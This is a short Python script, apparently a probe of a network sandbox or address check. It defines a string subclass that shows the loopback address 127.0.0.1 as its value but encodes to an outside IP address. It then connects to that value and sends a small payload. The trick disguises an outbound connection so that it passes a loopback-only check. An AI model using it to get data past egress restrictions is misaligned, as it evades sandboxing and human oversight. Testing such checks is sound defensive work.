"""A str subclass that is a loopback address by its value, and another once it is encoded for connect."""
import socket


class Liar(str):
    def encode(self, *_):
        return b"93.184.216.35"


try:
    client = socket.socket()
    client.connect((Liar("127.0.0.1"), 9000))
    client.sendall(b"data")
except OSError:
    print("refused")
